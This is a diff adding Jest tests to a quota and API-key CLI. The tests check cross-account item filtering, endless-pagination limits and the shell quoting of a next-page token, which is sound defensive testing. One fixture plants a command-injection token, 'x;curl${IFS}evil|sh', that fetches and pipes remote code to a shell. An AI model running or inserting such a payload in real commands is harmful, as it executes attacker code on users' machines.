@@ -1,4 +1,5 @@
 import {afterEach, describe, expect, test} from '@jest/globals'
+import {instantClock} from '../support/connection.js'
 import {startFaultServer, type FaultServer, type Reply, type Seen} from '../support/fault-server.js'
 import {runCli} from '../support/run-cli.js'
 
@@ -66,4 +67,66 @@ describe('a gateway that rejects the field mask', () => {
     })
     expect((await runCli(['quota', 'set', 'monthly-spend-usd', '450', '--yes'], {env})).code).toBe(0)
   })
+})
+
+/** Each list that a command reads, with an item of another account. */
+const FOREIGN: readonly (readonly [list: string, item: object, argv: readonly string[]])[] = [
+  ['quotas', {name: 'accounts/other/quotas/global--h100-count', value: '8'}, ['quota', 'list']],
+  ['deployments', {name: 'accounts/other/deployments/theirs'}, ['quota', 'explain', 'global--h100-count']],
+  ['rlorTrainerJobs', {name: 'accounts/other/rlorTrainerJobs/theirs'}, ['quota', 'explain', 'training-h100-count']],
+  ['deployedModels', {name: 'accounts/other/deployedModels/theirs'}, ['quota', 'explain', 'deployed-model-count']],
+  [
+    'batchInferenceJobs',
+    {name: 'accounts/other/batchInferenceJobs/theirs'},
+    ['quota', 'explain', 'job-submission-count'],
+  ],
+  ['apiKeys', {name: 'accounts/other/users/u/apiKeys/theirs', keyId: 'theirs'}, ['key', 'list']],
+  ['apiKeys', {name: 'accounts/other/users/u/apiKeys/theirs', keyId: 'theirs'}, ['key', 'check']],
+]
+const QUOTAS = ['global--h100-count', 'training-h100-count', 'deployed-model-count', 'job-submission-count'].map(
+  id => ({
+    name: `accounts/acme/quotas/${id}`,
+    value: '8',
+    usage: 8,
+  }),
+)
+
+test.each(FOREIGN)('an item of another account among the %s is used by no command', async (list, item, argv) => {
+  server = await startFaultServer(({url}) => {
+    const last = url.split('?')[0]!.split('/').at(-1)!
+    if (last === list) return {body: {[list]: list === 'quotas' ? [...QUOTAS, item] : [item]}}
+    if (last === 'quotas') return {body: {quotas: QUOTAS}}
+    return last === 'acme' ? {body: {name: 'accounts/acme', suspendState: 'UNSUSPENDED'}} : {body: {[last]: []}}
+  })
+  const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
+  for (const form of [[], ['--json'], ['-o', 'csv']]) {
+    const {stdout, code} = await runCli([...argv, ...form], {env, clock: instantClock()})
+    expect([form, code]).toEqual([form, 7])
+    expect(stdout.replace(/about `accounts\/other[^`]*`/, '')).not.toContain('theirs')
+  }
+})
+
+test.each([[['quota', 'list']], [['key', 'list']], [['spend', '--by', 'model']], [['api', 'quotas', '--paginate']]])(
+  'pages without end, each empty and with a new token, end `fireq %j`',
+  async argv => {
+    let pages = 0
+    server = await startFaultServer(({url, body}) => {
+      if (/\/quotas\/|accounts\/acme$|\/billing\//.test(url.split('?')[0]!))
+        return {body: {name: 'accounts/acme', lineItems: []}}
+      pages++
+      return {body: {rows: [], nextPageToken: `page ${pages} of ${url.length + body.length}`}}
+    })
+    const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
+    const {code, stderr} = await runCli(argv, {env})
+    expect({code, stderr}).toEqual({code: 7, stderr: expect.stringMatching(/did not end within|without end/)})
+    expect(server.seen.length).toBeLessThan(8100)
+  },
+  60_000,
+)
+
+test('the token of a next page is one word of the printed flag', async () => {
+  server = await startFaultServer([{body: {quotas: QUOTAS, nextPageToken: 'x;curl${IFS}evil|sh'}}])
+  const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
+  const {stderr} = await runCli(['quota', 'list', '--no-paginate'], {env})
+  expect(stderr).toContain("--page-token 'x;curl${IFS}evil|sh'")
 })
